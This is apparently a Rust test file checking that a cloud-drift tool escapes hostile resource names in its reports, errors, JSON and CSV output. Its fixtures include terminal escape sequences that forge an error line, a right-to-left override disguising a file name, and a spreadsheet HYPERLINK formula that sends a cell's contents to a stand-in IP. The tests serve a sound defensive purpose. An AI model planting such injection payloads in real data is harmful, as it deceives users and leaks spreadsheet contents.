//! Text that somebody in the cloud chose reaches no terminal, log or spreadsheet as they meant it.

use serde_json::{Value, json};

use super::support::{Site, volume};

/// Clears the screen, sets the window's title, reverses the reading order, breaks the line.
const NAME: &str = "a\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}gnp.exe\r\nerror: forged\u{9b}31m";

/// Would be a link, or a command, in a spreadsheet.
const FORMULA: &str = "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"see\")";

fn named(uid: &str, name: &str, note: &str) -> Value {
    let mut volume = volume(uid);
    volume["Tags"] = json!([{ "Key": "Name", "Value": name }, { "Key": NAME, "Value": note }]);
    volume
}

/// Makes a site with hostile names in everything that can bear one, and two scans that differ.
fn hostile_site() -> Site {
    let site = Site::new();
    let before =
        [named("vol-1", NAME, "x"), named("vol-2", FORMULA, "y"), named("vol-\u{1b}[31m3", NAME, "z")];
    let before = site.volumes("before", 1, &before);
    site.driftline(&["scan", "--from", &before]).run();
    let after = [named("vol-1", NAME, FORMULA), named("vol-4", FORMULA, &NAME.repeat(9))];
    let after = site.volumes("after", 2, &after);
    site.driftline(&["scan", "--from", &after]).status(10).run();
    site
}

/// No characters; a bare `[]` has no type where a dependency compares characters with its own.
const NONE: [char; 0] = [];

/// Returns the treacherous characters of a text: all controls but the line's end, and what reorders or hides.
fn treacherous(text: &str) -> Vec<char> {
    let hidden = ['\u{200b}', '\u{200f}', '\u{202a}', '\u{202e}', '\u{2066}', '\u{2069}', '\u{feff}'];
    text.chars().filter(|c| (c.is_control() && *c != '\n') || hidden.contains(c)).collect()
}

#[test]
fn reports_for_people_show_what_was_hidden() {
    let site = hostile_site();
    for args in [
        &["drift"][..],
        &["drift", "-v"],
        &["drift", "-q"],
        &["drift", "--format", "markdown"],
        &["report", "2"],
        &["report", "2", "-v"],
    ] {
        let ran = site.driftline(args).status(10).run();
        assert_eq!(treacherous(&ran.stdout), NONE, "{args:?}: {:?}", ran.stdout);
        assert!(!ran.stdout.lines().any(|line| line.trim_start().starts_with("error: forged")), "{args:?}");
        assert!(ran.stdout.contains("u{202e}"), "{args:?}: {}", ran.stdout);
    }
}

#[test]
fn colour_is_the_only_escape_in_a_coloured_report() {
    let site = hostile_site();
    let ran = site.driftline(&["drift", "--color", "always"]).status(10).run();
    let mut rest = ran.stdout.as_str();
    while let Some((_, after)) = rest.split_once('\u{1b}') {
        let code = after.strip_prefix('[').and_then(|after| after.split_once('m')).map(|(code, _)| code);
        let is_colour = code.is_some_and(|code| code.chars().all(|c| c.is_ascii_digit() || c == ';'));
        assert!(is_colour, "{:?}", after.get(..20));
        rest = after;
    }
    assert!(!ran.stdout.contains('\u{202e}') && !ran.stdout.contains('\u{9b}'));
}

#[test]
fn history_shows_what_was_hidden() {
    let site = hostile_site();
    for resource in ["vol-1", NAME, FORMULA] {
        let ran = site.driftline(&["history", resource]).run();
        assert_eq!(treacherous(&ran.stdout), NONE, "{:?}", ran.stdout);
        assert!(!ran.stdout.lines().any(|line| line.trim_start().starts_with("error: forged")));
    }
    let ran = site.driftline(&["history", "vol-1", "--format", "json"]).run();
    assert_eq!(ran.json()[0]["revisions"][0]["name"], NAME, "JSON keeps the name, escaped");
    assert_eq!(treacherous(&ran.stdout), NONE, "{:?}", ran.stdout);
}

#[test]
fn machine_formats_keep_names_whole_and_escaped() {
    let site = hostile_site();
    for format in ["json", "ndjson"] {
        let text = site.driftline(&["drift", "--format", format]).status(10).run().stdout;
        assert_eq!(treacherous(&text), NONE, "{format}");
        let documents: Vec<Value> = match format {
            "json" => vec![serde_json::from_str(&text).unwrap()],
            _ => text.lines().map(|line| serde_json::from_str(line).unwrap()).collect(),
        };
        let whole = documents.iter().any(|document| names(document).any(|name| name == NAME));
        assert!(whole, "{format}: {text}");
    }
    let text = site.driftline(&["store", "export"]).run().stdout;
    assert_eq!(treacherous(&text), NONE);
}

/// Returns every `name` in a document.
fn names(document: &Value) -> Box<dyn Iterator<Item = &str> + '_> {
    match document {
        Value::Object(members) => {
            let own = members.get("name").and_then(Value::as_str);
            Box::new(own.into_iter().chain(members.values().flat_map(names)))
        }
        Value::Array(items) => Box::new(items.iter().flat_map(names)),
        _ => Box::new(std::iter::empty()),
    }
}

#[test]
fn no_cell_of_a_spreadsheet_is_a_formula() {
    let site = hostile_site();
    let text = site.driftline(&["drift", "--format", "csv"]).status(10).run().stdout;
    assert_eq!(treacherous(&text), NONE, "{text:?}");
    let mut formulas = 0;
    for row in csv::Reader::from_reader(text.as_bytes()).records() {
        for cell in &row.unwrap() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
            formulas += usize::from(cell.contains("HYPERLINK"));
        }
    }
    assert!(formulas > 0, "{text}");
}

#[test]
fn error_messages_and_status_lines_show_what_was_hidden() {
    let site = hostile_site();
    let bad = site.write("bad\u{1b}[2J/no\u{202e}nsj.json", "no json");
    let bad_dir = site.text("bad\u{1b}[2J");
    let manifest = format!("{{\"driftline_dump\": 1, \"files\": [{{\"path\": \"x\", \"kind\": {NAME:?}}}]}}");
    let manifest = manifest.replace("\\u{1b}", "\\u001b").replace("\\u{202e}", "\\u202e");
    let manifest = manifest.replace("\\u{7}", "\\u0007").replace("\\u{9b}", "\\u009b");
    site.write("named/manifest.json", manifest);
    for args in [
        &["history", "no\u{1b}[2J such\u{202e}"][..],
        &["scan", "--from", &bad],
        &["scan", "--from", &bad_dir],
        &["scan", "--from", "absent\u{1b}[2J"],
        &["scan", "--from", "named"],
        &["drift", "no\u{1b}[2Jne"],
        &["rules", "explain", "no\u{1b}[2Jne"],
        &["baseline", "show", "no\u{1b}[2Jne"],
        &["drift", "--format", "no\u{1b}[2Jne"],
        &["no\u{1b}[2Jne"],
    ] {
        let ran = site.driftline(args).status(2).run();
        assert_eq!(treacherous(&ran.stderr), NONE, "{args:?}: {:?}", ran.stderr);
    }
    let dump = site.volumes("dump", 3, &[volume("vol-1")]);
    site.write("dump/stray\u{1b}[2J.json", "{");
    let ran = site.driftline(&["scan", "--from", &dump, "--fail-on", "never"]).run();
    assert!(ran.stderr.contains("Left out `stray"), "{}", ran.stderr);
    assert_eq!(treacherous(&ran.stderr), NONE, "{:?}", ran.stderr);
    assert_eq!(treacherous(&ran.stdout), NONE, "{:?}", ran.stdout);
}
